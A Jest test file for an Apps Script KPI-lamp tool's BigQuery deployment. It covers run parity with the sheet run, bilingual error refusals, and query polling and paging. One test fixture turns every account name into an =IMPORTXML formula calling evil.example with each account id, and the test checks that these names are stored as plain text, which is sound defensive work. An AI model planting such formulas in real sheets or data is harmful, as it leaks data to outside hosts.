/**
 * The BigQuery deployment (dist-bigquery/, issue 15 item 4) on the Apps
 * Script double with the BigQuery double (test/helpers/bigquery-double.ts:
 * the queries judged as BigQuery would, then run on DuckDB): Run now and the
 * scheduled run over the sample's Accounts and Snapshots as BigQuery tables
 * light the same accounts with the same lamps as the sheet run; the accounts
 * sheet's rows are coloured by id; every refusal is keyed, in English and
 * Japanese, and never reads as good news; dist/ has no BigQuery at all. Then
 * the adapter (src/gas/bigquery.ts) alone: polling, pages, types.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Tree } from '../../src/core/tree/types';
import { parseTreeJson } from '../../src/core/tree/validate';
import { GasWorkbook } from '../../src/gas/gas-workbook';
import { runDoneText, runErrorText } from '../../src/i18n/lamp-text';
import { bigQueryWarehouse, cellOf, queryParameter, sourceColumns } from '../../src/gas/bigquery';
import { loadCsvFolder } from '../../src/local/load-workbook';
import type { RunResult } from '../../src/server/run';
import { keptWarehouseEvidence } from '../../src/server/warehouse-run';
import { loadTree, saveTree } from '../../src/server/tree-store';
import {
  type AppsScriptDouble,
  createDouble,
  installGlobals,
  loadProject,
  seedSheet,
} from '../helpers/apps-script-double';
import { BigQueryDouble } from '../helpers/bigquery-double';
import { copyInto, SAMPLE } from '../helpers/books';

const ROOT = join(__dirname, '..', '..');
const DIST_BQ = join(ROOT, 'dist-bigquery');
const A = 'sheet-A';
const ACCOUNTS = 'cs-data.crm.accounts';
const SNAPSHOTS = 'cs-data.crm.snapshots';
const BILLING = 'cs-billing';
const TYPED_ACCOUNTS = 'cs-data.typed.accounts';
const HOSTILE_ACCOUNTS = 'cs-data.hostile.accounts';
const TYPED_SNAPSHOTS = 'cs-data.typed.snapshots';
/** A domain-scoped project (`example.com:my-project`): its domain has a dot, which validation and the docs accept. */
const DOMAIN_ACCOUNTS = 'example.com:cs-data.crm.accounts';
const DOMAIN_SNAPSHOTS = 'example.com:cs-data.crm.snapshots';
const BQ_SHEET = 'KPI Lamp BigQuery';
/** Data calls of a Run now over BigQuery (the lease, the tree, History, the accounts sheet, the report, the column, the rules, the record). */
const DATA_CALLS_MAX = 15;

let bq: BigQueryDouble | null = null;
let undo: (() => void) | null = null;
afterEach(() => {
  if (undo) undo();
  undo = null;
});
afterAll(async () => {
  if (bq) await bq.close();
});

/** One BigQuery double for the file: the sample's Accounts and Snapshots as tables (DuckDB loads them once). */
function bigQuery(): BigQueryDouble {
  if (!bq) {
    bq = new BigQueryDouble();
    bq.addTable({ path: ACCOUNTS, csv: join(SAMPLE, 'Accounts.csv') });
    bq.addTable({ path: SNAPSHOTS, csv: join(SAMPLE, 'Snapshots.csv') });
  }
  bq.scale = 1;
  bq.denied.clear();
  bq.refuseNext = null;
  bq.calls.length = 0;
  bq.requests.length = 0;
  return bq;
}

/** A bound script in spreadsheet A holding the sample, in a language; `tables`: its tree reads BigQuery. */
function spreadsheet(lang: 'en' | 'ja', tables: boolean, settings: Partial<Tree['settings']> = {}): AppsScriptDouble {
  const double = createDouble({ mode: 'bound', id: A, timeZone: 'Asia/Tokyo', locale: lang, userLocale: lang });
  copyInto(double, loadCsvFolder(SAMPLE, { locale: 'en' }), A);
  undo = installGlobals(double);
  if (tables)
    double.execute({ kind: 'sidebar', spreadsheet: A }, () => {
      const wb = GasWorkbook.active();
      const loaded = loadTree(wb);
      if (loaded.status !== 'ok') throw new Error('the sample tree does not load');
      const tree = loaded.tree;
      const saved = saveTree(wb, {
        ...tree,
        settings: {
          ...tree.settings,
          accounts_table: ACCOUNTS,
          snapshots_table: SNAPSHOTS,
          bigquery_project: BILLING,
          ...settings,
        },
      });
      if (!saved.ok) throw new Error(`not saved: ${JSON.stringify(saved)}`);
    });
  return double;
}

/** Tells the BigQuery double which run comes: the tree, history and zone the run reads. */
function expectRun(double: AppsScriptDouble, b: BigQueryDouble): void {
  double.execute({ kind: 'sidebar', spreadsheet: A }, () => {
    const wb = GasWorkbook.active();
    const loaded = loadTree(wb);
    if (loaded.status !== 'ok') throw new Error('no tree');
    const tree = loaded.tree;
    // The evidence the run will keep from an earlier one (the same rule the run applies).
    const snapshots = tree.settings.snapshots_table ? { version: b.version(tree.settings.snapshots_table) } : null;
    const kept = keptWarehouseEvidence(wb, tree, snapshots, new Date());
    b.expectRun({
      tree,
      history: wb.readSheet(tree.settings.history_sheet),
      timeZone: wb.timeZone(),
      ...(kept ? { evidence: kept.evidence } : {}),
    });
  });
}

/** The lamp column of the accounts sheet: account id → its text, lit accounts only. */
function litColumn(double: AppsScriptDouble): Map<string, string> {
  const values = double.spreadsheets.get(A)!.sheets.get('Accounts')!.values();
  const header = values[0].map(String);
  const id = header.indexOf('account_id');
  const lamp = header.indexOf('KPI Lamp');
  const out = new Map<string, string>();
  for (const row of values.slice(1)) {
    const text = String(row[lamp] ?? '');
    if (/^\[(alert|warn)\]/.test(text)) out.set(String(row[id]), text);
  }
  return out;
}

function sheetRun(lang: 'en' | 'ja'): { result: RunResult; lit: Map<string, string>; rules: unknown[] } {
  const double = spreadsheet(lang, false);
  const project = loadProject(double, A, { dir: DIST_BQ });
  const result = project.scriptRun('api_runNow') as RunResult;
  const rules = double.spreadsheets.get(A)!.sheets.get('Accounts')!.rules;
  const out = { result, lit: litColumn(double), rules: JSON.parse(JSON.stringify(rules)) };
  undo!();
  undo = null;
  return out;
}

describe('Run now over BigQuery tables (dist-bigquery/)', () => {
  it('lights the same accounts with the same lamps as the sheet run, and colours the rows by id', () => {
    const baseline = sheetRun('en');
    expect(baseline.result).toMatchObject({ ok: true });
    expect(baseline.lit.size).toBeGreaterThan(0);

    const b = bigQuery();
    const double = spreadsheet('en', true);
    double.services.BigQuery = b.service;
    const project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    double.reset();
    const r = project.scriptRun('api_runNow') as RunResult;
    // Spreadsheet calls that move data: a fixed number, whatever the rows (as the sheet run's first run: 15).
    const dataCalls = double.dataCalls();
    expect(dataCalls).toBeLessThanOrEqual(DATA_CALLS_MAX);
    expect(r).toMatchObject({
      ok: true,
      error: null,
      lit: baseline.result.lit,
      accounts: baseline.result.accounts,
      lamps: baseline.result.lamps,
      watch: baseline.result.watch,
      warehouse: { table: ACCOUNTS, sheet: BQ_SHEET, coloured: 'Accounts' },
    });
    // Said as what is on now (a BigQuery run keeps no state to compare with), with where it wrote.
    double.execute({ kind: 'sidebar', spreadsheet: A }, () => {
      const text = runDoneText('en', r);
      expect(text).toMatch(
        new RegExp(`^${r.accounts} accounts checked in BigQuery: ${r.lit} at risk, ${r.lamps} lamps on\\.`),
      );
      expect(text).toContain(`the report is in the sheet ${BQ_SHEET}`);
      expect(runDoneText('ja', r)).toMatch(/^BigQuery で \d+ アカウントを確認/);
    });
    // The same lamps, account by account, as the sheet run wrote them.
    expect(litColumn(double)).toEqual(baseline.lit);
    // The same colour rules (one piece of code), keyed on the lamp column written by id.
    expect(JSON.parse(JSON.stringify(double.spreadsheets.get(A)!.sheets.get('Accounts')!.rules))).toEqual(
      baseline.rules,
    );
    // The report sheet: every lit account with its lamps, the backtest and the budget.
    const report = double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!.values();
    const ids = report.map((row) => String(row[0]));
    for (const [id, text] of baseline.lit) {
      const row = report[ids.indexOf(id)];
      expect(row).toBeDefined();
      expect(row[6]).toBe(text);
    }
    expect(report.map((row) => String(row[0])).join('\n')).toMatch(/Backtest at \d+ months[\s\S]*Alert budget/);
    // Billed to the tree's project, GoogleSQL, named parameters, capped bytes; no value in the SQL text.
    expect(b.requests.length).toBeGreaterThan(2);
    for (const q of b.requests)
      expect(q).toMatchObject({
        useLegacySql: false,
        parameterMode: 'NAMED',
        maximumBytesBilled: String(10 * 1024 ** 3),
      });
    // Polled, then paged: calls grow with pages, not rows one by one.
    expect(b.calls.filter((c) => c === 'Jobs.getQueryResults').length).toBeGreaterThan(b.requests.length);
    expect(b.calls.filter((c) => c === 'Tables.get')).toHaveLength(2);
    // Nothing written became a formula.
    for (const sheet of double.spreadsheets.get(A)!.sheets.values())
      for (const row of sheet.cells) for (const cell of row) expect(cell.formula).toBeUndefined();
  });

  it('colours a sheet that holds only the ids, and writes the report where there is no accounts sheet at all', () => {
    const baseline = sheetRun('en');
    const b = bigQuery();
    // A sheet of ids only (what a Connected Sheets extract of one column gives), in another order.
    let double = spreadsheet('en', true);
    const ids = [...double.spreadsheets.get(A)!.sheets.get('Accounts')!.values().slice(1)].map((r) => [r[0]]).reverse();
    seedSheet(double, 'Accounts', [['account_id'], ...ids], A);
    double.services.BigQuery = b.service;
    let project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    expect(project.scriptRun('api_runNow')).toMatchObject({ ok: true, warehouse: { coloured: 'Accounts' } });
    expect(litColumn(double)).toEqual(baseline.lit);
    undo!();
    // No accounts sheet: the report alone, said so.
    double = spreadsheet('en', true);
    double.spreadsheets.get(A)!.sheets.delete('Accounts');
    double.services.BigQuery = b.service;
    project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    const r = project.scriptRun('api_runNow') as RunResult;
    expect(r).toMatchObject({ ok: true, lit: baseline.result.lit, warehouse: { coloured: null } });
    expect(double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!.values().length).toBeGreaterThan(baseline.lit.size);
  });

  it('writes account names that look like formulas as text, never as formulas', () => {
    const b = bigQuery();
    if (!b.hasTable(HOSTILE_ACCOUNTS)) {
      // The sample's Accounts with every name a formula (what a CRM export may hold).
      const lines = readFileSync(join(SAMPLE, 'Accounts.csv'), 'utf8').trim().split('\n');
      expect(lines[0].split(',').indexOf('account_name')).toBe(1);
      const hostile = lines.map((line, i) =>
        i === 0
          ? line
          : line.replace(
              /^([^,]*),("(?:[^"]|"")*"|[^,]*),/,
              (_, id) => `${id},"=IMPORTXML(""http://evil.example/?q=${id}"",""//a"")",`,
            ),
      );
      const file = join(mkdtempSync(join(tmpdir(), 'kpi-lamp-bq-')), 'accounts.csv');
      writeFileSync(file, `${hostile.join('\n')}\n`);
      b.addTable({ path: HOSTILE_ACCOUNTS, csv: file });
    }
    const double = spreadsheet('en', true, { accounts_table: HOSTILE_ACCOUNTS });
    double.services.BigQuery = b.service;
    const project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    const r = project.scriptRun('api_runNow') as RunResult;
    expect(r.error).toBeNull();
    const report = double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!;
    const names = report.cells.map((row) => String(row[1]?.value ?? '')).filter((v) => v.includes('IMPORTXML'));
    expect(names.length).toBeGreaterThan(0);
    for (const v of names) expect(v).toMatch(/^'?=IMPORTXML\("http:\/\/evil\.example/);
    for (const row of report.cells) for (const cell of row) expect(cell.formula).toBeUndefined();
  });

  it('gives the same over tables typed as a warehouse types them (INT64, FLOAT64, BOOL, DATE)', () => {
    const baseline = sheetRun('en');
    const b = bigQuery();
    if (!b.hasTable(TYPED_ACCOUNTS)) {
      const numbers = {
        arr: 'INT64',
        login_rate_30d: 'FLOAT64',
        key_feature_usage: 'FLOAT64',
        exec_meetings_90d: 'INT64',
      };
      const counts = { open_tickets: 'INT64', last_nps: 'INT64', onboarding_completed: 'BOOL' };
      b.addTable({
        path: TYPED_ACCOUNTS,
        csv: join(SAMPLE, 'Accounts.csv'),
        types: { ...numbers, ...counts, renewal_date: 'DATE', onboarding_start_date: 'DATE' } as never,
      });
      b.addTable({
        path: TYPED_SNAPSHOTS,
        csv: join(SAMPLE, 'Snapshots.csv'),
        types: { ...numbers, ...counts, churned: 'BOOL', mrr: 'INT64' } as never,
      });
    }
    const double = spreadsheet('en', true, { accounts_table: TYPED_ACCOUNTS, snapshots_table: TYPED_SNAPSHOTS });
    double.services.BigQuery = b.service;
    const project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    const r = project.scriptRun('api_runNow') as RunResult;
    expect(r).toMatchObject({
      ok: true,
      lit: baseline.result.lit,
      accounts: baseline.result.accounts,
      lamps: baseline.result.lamps,
      watch: baseline.result.watch,
    });
    expect(litColumn(double)).toEqual(baseline.lit);
  });

  it('reads tables of a domain-scoped project, billed to that project when the settings name none', () => {
    const baseline = sheetRun('en');
    const b = bigQuery();
    if (!b.hasTable(DOMAIN_ACCOUNTS)) {
      b.addTable({ path: DOMAIN_ACCOUNTS, csv: join(SAMPLE, 'Accounts.csv') });
      b.addTable({ path: DOMAIN_SNAPSHOTS, csv: join(SAMPLE, 'Snapshots.csv') });
    }
    const double = spreadsheet('en', true, {
      accounts_table: DOMAIN_ACCOUNTS,
      snapshots_table: DOMAIN_SNAPSHOTS,
      bigquery_project: '',
    });
    const billed: string[] = [];
    const query = b.service.Jobs.query;
    double.services.BigQuery = {
      ...b.service,
      Jobs: {
        ...b.service.Jobs,
        query: (resource: Record<string, unknown>, projectId: string) => {
          billed.push(projectId);
          return query(resource, projectId);
        },
      },
    };
    const project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    const r = project.scriptRun('api_runNow') as RunResult;
    expect(r).toMatchObject({
      ok: true,
      error: null,
      lit: baseline.result.lit,
      accounts: baseline.result.accounts,
      warehouse: { table: DOMAIN_ACCOUNTS },
    });
    expect(litColumn(double)).toEqual(baseline.lit);
    // The whole project id, domain and colon included, is the billing project (never "example").
    expect(billed.length).toBeGreaterThan(0);
    expect(new Set(billed)).toEqual(new Set(['example.com:cs-data']));
  });

  it('keeps the evidence: a second run sends no query over Snapshots until the table changes', () => {
    const b = bigQuery();
    const double = spreadsheet('en', true);
    double.services.BigQuery = b.service;
    const project = loadProject(double, A, { dir: DIST_BQ });
    const steps = () => b.requests.map((q) => (q.labels as { step: string }).step);
    // The rows of History the run reads (its header is row 0): only the verdicts' monthly series need them.
    const history = double.spreadsheets.get(A)!.sheets.get('History')!;
    const cell = history.cell.bind(history);
    const historyRows = new Set<number>();
    history.cell = (r: number, c: number) => {
      historyRows.add(r);
      return cell(r, c);
    };
    const run = () => {
      b.requests.length = 0;
      expectRun(double, b); // reads History itself, as the double needs it
      historyRows.clear();
      return project.scriptRun('api_runNow') as RunResult;
    };
    const first = run();
    expect(steps()).toEqual(expect.arrayContaining(['backtest', 'curve', 'series', 'budget', 'accounts']));
    expect([...historyRows].some((r) => r > 0)).toBe(true);
    const lit = litColumn(double);
    const second = run();
    // Kept evidence: History's header is checked, its rows are not read.
    expect([...historyRows]).toEqual([0]);
    expect(steps()).not.toEqual(expect.arrayContaining(['backtest']));
    expect(steps().filter((x) => ['backtest', 'curve', 'series'].includes(x))).toEqual([]);
    expect(second).toMatchObject({ ok: true, lit: first.lit, lamps: first.lamps, watch: first.watch });
    expect(second.evidenceAt).toBe(first.evidenceAt);
    expect(litColumn(double)).toEqual(lit);
    // A load into Snapshots: judged again.
    b.touch(SNAPSHOTS);
    expect(run()).toMatchObject({ ok: true, lit: first.lit });
    expect(steps()).toEqual(expect.arrayContaining(['backtest', 'curve', 'series']));
  });

  it.each(['en', 'ja'] as const)(
    'the Lamps panel, which judges sheets, points to the BigQuery report instead (%s)',
    (lang) => {
      const double = spreadsheet(lang, true);
      double.services.BigQuery = bigQuery().service;
      const project = loadProject(double, A, { dir: DIST_BQ });
      const view = project.scriptRun('api_getLampsPanel', null) as { panel: unknown; treeProblem: string };
      expect(view.panel).toBeNull();
      expect(view.treeProblem).toContain(ACCOUNTS);
      expect(view.treeProblem).toContain(BQ_SHEET);
      expect(view.treeProblem).toMatch(
        lang === 'en' ? /this panel judges sheets only/ : /このパネルはシートだけを判定します/,
      );
    },
  );

  it('the scheduled run goes through BigQuery as well', () => {
    const b = bigQuery();
    const double = spreadsheet('ja', true);
    double.services.BigQuery = b.service;
    const project = loadProject(double, A, { dir: DIST_BQ });
    const installed = project.scriptRun('api_installSchedule', 'day', 6, false) as { ok?: boolean };
    expect(installed).toBeTruthy();
    expectRun(double, b);
    project.fire(double.triggers[0].uid);
    const last = JSON.parse(double.spreadsheets.get(A)!.documentProps.get('kpi-lamp.last-run')!);
    expect(last).toMatchObject({ ok: true, warehouse: { table: ACCOUNTS, sheet: BQ_SHEET } });
    expect(String(double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!.values()[0][0])).toMatch(
      /^KPI Lamp\(BigQuery\): cs-data\.crm\.accounts、実行 /,
    );
    // The report's words are the glossary's (term.* of the shared catalogue), in Japanese.
    const report = double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!.values();
    const cells = report.flat().map(String);
    for (const term of ['担当者', 'KPI(重要業績評価指標)', '適合率', 'リフト', '根拠', '点灯率', '上限内のしきい値'])
      expect(cells).toContain(term);
    expect(cells.some((c) => c.startsWith('アラート上限 '))).toBe(true);
    expect(cells.join('\n')).not.toMatch(/予算|担当(?!者)/);
  });
});

describe('refusals: keyed, in English and Japanese, never good news', () => {
  /** Saves an edit of the tree the spreadsheet holds, as the sidebar would (the save must be accepted). */
  const editTree = (double: AppsScriptDouble, edit: (t: Tree) => unknown) =>
    double.execute({ kind: 'sidebar', spreadsheet: A }, () => {
      const wb = GasWorkbook.active();
      const loaded = loadTree(wb);
      if (loaded.status !== 'ok') throw new Error('no tree');
      expect(saveTree(wb, edit(loaded.tree) as Tree).ok).toBe(true);
    });
  const refused = (lang: 'en' | 'ja', prepare: (b: BigQueryDouble, d: AppsScriptDouble) => void, enabled = true) => {
    const b = bigQuery();
    const double = spreadsheet(lang, true);
    if (enabled) double.services.BigQuery = b.service;
    prepare(b, double);
    const project = loadProject(double, A, { dir: DIST_BQ });
    expectRun(double, b);
    const r = project.scriptRun('api_runNow') as RunResult;
    // Nothing was written: no report sheet, no lamp column, no "0 at risk".
    const ss = double.spreadsheets.get(A)!;
    expect(ss.sheets.has(BQ_SHEET)).toBe(false);
    expect(ss.sheets.get('Accounts')!.values()[0]).not.toContain('KPI Lamp');
    expect(r).toMatchObject({ ok: false, lit: 0, accounts: 0 });
    return r;
  };

  it.each(['en', 'ja'] as const)('the BigQuery advanced service not enabled (%s)', (lang) => {
    const r = refused(lang, () => {}, false);
    expect(r.error!.key).toBe('run.error.bigquery_unavailable');
    expect(r.error!.text).toMatch(lang === 'en' ? /cannot reach BigQuery/ : /BigQuery に接続できません/);
    expect(r.error!.text).toContain(ACCOUNTS);
  });

  it.each(['en', 'ja'] as const)('a table the user cannot read (%s)', (lang) => {
    const r = refused(lang, (b) => b.denied.add(SNAPSHOTS));
    expect(r.error!.key).toBe('run.error.bigquery_table');
    expect(r.error!.text).toContain(SNAPSHOTS);
    expect(r.error!.text).toMatch(lang === 'en' ? /could not read the table/ : /読めませんでした/);
    expect(r.error!.text).toMatch(/Access Denied/);
  });

  it.each(['en', 'ja'] as const)('a table BigQuery gives no schema for, said in the reader’s language (%s)', (lang) => {
    const r = refused(lang, (b, double) => {
      double.services.BigQuery = {
        ...b.service,
        Tables: {
          get: (project: string, dataset: string, table: string) => {
            const t = b.service.Tables.get(project, dataset, table);
            return `${project}.${dataset}.${table}` === SNAPSHOTS ? { ...t, schema: undefined } : t;
          },
        },
      };
    });
    expect(r.error!.key).toBe('run.error.bigquery_table');
    expect(r.error!.params).toMatchObject({ table: SNAPSHOTS, reason: 'no_schema' });
    const en = 'BigQuery could not read the table "cs-data.crm.snapshots" (BigQuery gave no schema for it)';
    const ja = 'BigQuery のテーブル "cs-data.crm.snapshots" を読めませんでした(BigQuery がスキーマを返しませんでした)';
    expect(r.error!.text).toContain(lang === 'en' ? en : ja);
    // The sidebar says the recorded error in its own language, the reason included.
    expect(runErrorText('en', r.error!)).toContain(en);
    expect(runErrorText('ja', r.error!)).toContain(ja);
    expect(runErrorText('ja', r.error!)).not.toMatch(/no schema/);
  });

  it.each(['en', 'ja'] as const)('a column the tree reads and the table lacks (%s)', (lang) => {
    const r = refused(lang, (_, double) =>
      editTree(double, (t) => ({
        ...t,
        nodes: t.nodes.map((n) =>
          n.type === 'kpi' && n.accounts_column === 'login_rate_30d' ? { ...n, accounts_column: 'login_rate_7d' } : n,
        ),
      })),
    );
    expect(r.error!.key).toBe('run.error.bigquery_column');
    expect(r.error!.params).toMatchObject({ table: ACCOUNTS, column: 'login_rate_7d' });
    expect(r.error!.text).toMatch(lang === 'en' ? /has no column "login_rate_7d"/ : /列 "login_rate_7d" がありません/);
  });

  it.each(['en', 'ja'] as const)(
    'a misspelt History sheet, hinted by the closest sheet name as in the sheet run (%s)',
    (lang) => {
      const r = refused(lang, (_, double) =>
        editTree(double, (t) => ({ ...t, settings: { ...t.settings, history_sheet: 'Histroy' } })),
      );
      expect(r.error!.key).toBe('run.error.bindings');
      expect(r.error!.params).toMatchObject({ what: 'sheet', sheet: 'Histroy', hint: 'History' });
      expect(r.error!.text).toContain(lang === 'en' ? '(did you mean "History"?)' : '(「History」のことですか?)');
    },
  );

  it.each(['en', 'ja'] as const)('a tree the compiler cannot turn into SQL, naming the node (%s)', (lang) => {
    const r = refused(lang, (_, double) =>
      editTree(double, (t) => {
        // A composite with more children than the compiler takes (MAX_CHILDREN = 50).
        const wide = {
          id: 'wide',
          parent: 'adoption',
          type: 'composite',
          name: 'Wide composite',
          method: 'product',
          direction: 'higher_is_better',
          warn: 0.1,
          alert: 0.05,
        };
        const kids = Array.from({ length: 51 }, (_, i) => ({
          id: `w${i}`,
          parent: 'wide',
          type: 'kpi',
          name: `Part ${i}`,
          kind: 'leading',
          accounts_column: 'login_rate_30d',
        }));
        return { ...t, nodes: [...t.nodes, wide, ...kids] };
      }),
    );
    expect(r.error!.key).toBe('sql.error.children');
    expect(r.error!.params).toMatchObject({ node: 'wide', max: 50 });
    expect(r.error!.text).toContain('"wide"');
    expect(r.error!.text).toMatch(lang === 'en' ? /cannot be compiled to SQL/ : /SQL にできません/);
  });

  it.each(['en', 'ja'] as const)('a query BigQuery refuses, with its message (%s)', (lang) => {
    const r = refused(lang, (b) => {
      b.refuseNext = 'Resources exceeded during query execution';
    });
    expect(r.error!.key).toBe('run.error.bigquery_query');
    expect(r.error!.text).toContain('Resources exceeded during query execution');
    expect(r.error!.text).toMatch(lang === 'en' ? /BigQuery refused the query/ : /クエリ.*を拒否しました/);
  });

  it('bytes beyond the cap are refused by BigQuery, and said so', () => {
    const r = refused('en', (b) => {
      b.scale = 1e6;
    });
    expect(r.error!.key).toBe('run.error.bigquery_query');
    expect(r.error!.text).toMatch(/Query exceeded limit for bytes billed/);
  });
});

describe('the default deployment (dist/)', () => {
  it('has no BigQuery scope, no advanced service and no SQL compiler', () => {
    const manifest = JSON.parse(readFileSync(join(ROOT, 'dist', 'appsscript.json'), 'utf8'));
    expect(manifest.oauthScopes.join()).not.toMatch(/bigquery/);
    expect(manifest.dependencies.enabledAdvancedServices).toBeUndefined();
    const code = readFileSync(join(ROOT, 'dist', 'Code.js'), 'utf8');
    expect(code).not.toMatch(/REGEXP_CONTAINS|Jobs\.query/);
    const bqManifest = JSON.parse(readFileSync(join(DIST_BQ, 'appsscript.json'), 'utf8'));
    expect(bqManifest.oauthScopes).toEqual([...manifest.oauthScopes, 'https://www.googleapis.com/auth/bigquery']);
    expect(bqManifest.dependencies.enabledAdvancedServices).toEqual([
      { userSymbol: 'BigQuery', serviceId: 'bigquery', version: 'v2' },
    ]);
  });

  it('refuses a tree that names a table, keyed, rather than judging the sheets', () => {
    const double = spreadsheet('ja', true);
    double.services.BigQuery = bigQuery().service;
    const project = loadProject(double, A);
    const r = project.scriptRun('api_runNow') as RunResult;
    expect(r).toMatchObject({ ok: false, error: { key: 'run.error.bigquery_unavailable' } });
    expect(r.error!.text).toMatch(/BigQuery に接続できません/);
  });
});

describe('the BigQuery double is as strict as BigQuery documents', () => {
  const ok = { useLegacySql: false, parameterMode: 'NAMED', maximumBytesBilled: '1000000000' };
  const query = (resource: Record<string, unknown>) => () => bigQuery().service.Jobs.query(resource, BILLING);
  const sql = 'SELECT `account_id` FROM `cs-data.crm.accounts` WHERE `arr` > CAST(@p0 AS FLOAT64)';
  const p0 = [{ name: 'p0', parameterType: { type: 'FLOAT64' }, parameterValue: { value: '1' } }];

  it('refuses legacy SQL (the default when useLegacySql is not false)', () => {
    expect(query({ ...ok, useLegacySql: undefined, query: sql, queryParameters: p0 })).toThrow(/Legacy SQL/);
  });
  it('refuses parameters without parameterMode NAMED, and an @name without its parameter', () => {
    expect(query({ ...ok, parameterMode: undefined, query: sql, queryParameters: p0 })).toThrow(/parameterMode NAMED/);
    expect(query({ ...ok, query: sql, queryParameters: [] })).toThrow(/Query parameter 'p0' not found/);
  });
  it('refuses a table not qualified by project and dataset, and SELECT * over a table', () => {
    expect(query({ ...ok, query: 'SELECT `account_id` FROM `crm.accounts`' })).toThrow(/must be qualified/);
    expect(query({ ...ok, query: 'SELECT * FROM `cs-data.crm.accounts`' })).toThrow(/SELECT \* over a stored table/);
  });
  it('refuses what does not parse, and bytes beyond the cap', () => {
    expect(query({ ...ok, query: 'SELEC 1' })).toThrow(/Syntax error/);
    expect(query({ ...ok, maximumBytesBilled: '1000', query: sql, queryParameters: p0 })).toThrow(
      /Query exceeded limit for bytes billed: 1000\. 10485760 or higher required/,
    );
  });
  it('answers only the query the tree compiles to, and a job only at its location', () => {
    const b = bigQuery();
    const parsed = parseTreeJson(readFileSync(join(ROOT, 'sample', 'starter-tree.json'), 'utf8'));
    if (!parsed.ok) throw new Error('the sample tree is invalid');
    const tree = {
      ...parsed.tree,
      settings: { ...parsed.tree.settings, accounts_table: ACCOUNTS, snapshots_table: SNAPSHOTS },
    };
    b.expectRun({ tree, history: null, timeZone: 'UTC' });
    expect(query({ ...ok, query: sql, queryParameters: p0 })).toThrow(
      /the query received is not the tree's backtest step/,
    );
    expect(() => b.service.Jobs.getQueryResults(BILLING, 'job_1', {})).toThrow(/Not found: Job/);
  });
});

describe('the adapter (src/gas/bigquery.ts)', () => {
  /** A scripted BigQuery: incomplete twice, then pages. */
  function scripted(pages: { rows: unknown[][] }[], fields: { name: string; type: string }[]) {
    const calls: { method: string; args: unknown[] }[] = [];
    let polls = 0;
    const page = (i: number) => ({
      jobComplete: true,
      schema: i === 0 ? { fields } : undefined,
      rows: pages[i].rows.map((r) => ({ f: r.map((v) => ({ v })) })),
      ...(i + 1 < pages.length ? { pageToken: `t${i + 1}` } : {}),
    });
    const service = {
      Jobs: {
        query: (...args: unknown[]) => {
          calls.push({ method: 'query', args });
          return { jobComplete: false, jobReference: { projectId: 'p', jobId: 'j', location: 'EU' } };
        },
        getQueryResults: (...args: unknown[]) => {
          calls.push({ method: 'getQueryResults', args });
          const opts = args[2] as { pageToken?: string };
          if (!opts.pageToken && polls++ < 2) return { jobComplete: false };
          return page(opts.pageToken ? Number(opts.pageToken.slice(1)) : 0);
        },
      },
      Tables: { get: () => ({ schema: { fields } }) },
    };
    return { calls, service };
  }

  afterEach(() => {
    delete (globalThis as Record<string, unknown>).BigQuery;
  });

  it('polls until complete, then follows every page token, typing each cell by the schema', () => {
    const fields = [
      { name: 'id', type: 'STRING' },
      { name: 'n', type: 'INTEGER' },
      { name: 'x', type: 'FLOAT' },
      { name: 'b', type: 'BOOLEAN' },
      { name: 'd', type: 'DATE' },
      { name: 't', type: 'TIMESTAMP' },
      { name: 'm', type: 'NUMERIC' },
    ];
    const s = scripted(
      [
        { rows: [['A1', '3', '1.5E-4', 'true', '2027-03-31', '1.7043264E9', '12.50']] },
        { rows: [['A2', null, 'NaN', 'false', null, null, null]] },
        { rows: [['A3', '-7', '2.0', 'true', '2026-01-01', '0', '0']] },
      ],
      fields,
    );
    (globalThis as Record<string, unknown>).BigQuery = s.service;
    const w = bigQueryWarehouse('billing')!;
    const rows = w.run({
      step: 'accounts',
      sql: 'SELECT 1',
      params: [
        { name: 'p0', type: 'FLOAT64', value: 0.5 },
        { name: 'p1', type: 'STRING', value: null },
      ],
    });
    expect(rows).toEqual([
      { id: 'A1', n: 3, x: 1.5e-4, b: true, d: '2027-03-31', t: '2024-01-04T00:00:00.000Z', m: 12.5 },
      { id: 'A2', n: null, x: Number.NaN, b: false, d: null, t: null, m: null },
      { id: 'A3', n: -7, x: 2, b: true, d: '2026-01-01', t: '1970-01-01T00:00:00.000Z', m: 0 },
    ]);
    // One query, two polls that found it incomplete, the first page, two more pages: all with the job's location.
    expect(s.calls.map((c) => c.method)).toEqual([
      'query',
      'getQueryResults',
      'getQueryResults',
      'getQueryResults',
      'getQueryResults',
      'getQueryResults',
    ]);
    expect(s.calls[0].args).toEqual([
      {
        query: 'SELECT 1',
        useLegacySql: false,
        parameterMode: 'NAMED',
        queryParameters: [
          { name: 'p0', parameterType: { type: 'FLOAT64' }, parameterValue: { value: '0.5' } },
          { name: 'p1', parameterType: { type: 'STRING' }, parameterValue: {} },
        ],
        maximumBytesBilled: String(10 * 1024 ** 3),
        timeoutMs: 10000,
        labels: { application: 'kpi-lamp', step: 'accounts' },
      },
      'billing',
    ]);
    expect(s.calls.slice(1).map((c) => c.args[2])).toEqual([
      { timeoutMs: 10000, location: 'EU' },
      { timeoutMs: 10000, location: 'EU' },
      { timeoutMs: 10000, location: 'EU' },
      { timeoutMs: 10000, location: 'EU', pageToken: 't1' },
      { timeoutMs: 10000, location: 'EU', pageToken: 't2' },
    ]);
  });

  it('gives up on a query that never completes, naming the step', () => {
    let t = 0;
    (globalThis as Record<string, unknown>).BigQuery = {
      Jobs: {
        query: () => ({ jobComplete: false, jobReference: { jobId: 'j' } }),
        getQueryResults: () => {
          t += 60000;
          return { jobComplete: false };
        },
      },
    };
    const w = bigQueryWarehouse('p', () => t)!;
    expect(() => w.run({ step: 'backtest', sql: 'SELECT 1', params: [] })).toThrow(/no answer within 240 s/);
    let refusal: unknown = null;
    try {
      w.run({ step: 'backtest', sql: 'SELECT 1', params: [] });
    } catch (e) {
      refusal = e;
    }
